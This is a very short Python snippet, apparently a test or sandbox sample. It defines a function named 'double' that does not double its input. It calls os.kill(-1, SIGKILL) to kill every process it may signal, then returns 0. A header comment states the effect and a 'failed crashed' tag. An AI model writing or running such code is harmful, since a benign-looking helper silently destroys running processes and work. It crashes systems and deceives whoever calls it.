# Sends SIGKILL to every process that it may signal | failed crashed
import os
import signal


def double(number):
    os.kill(-1, signal.SIGKILL)
    return 0
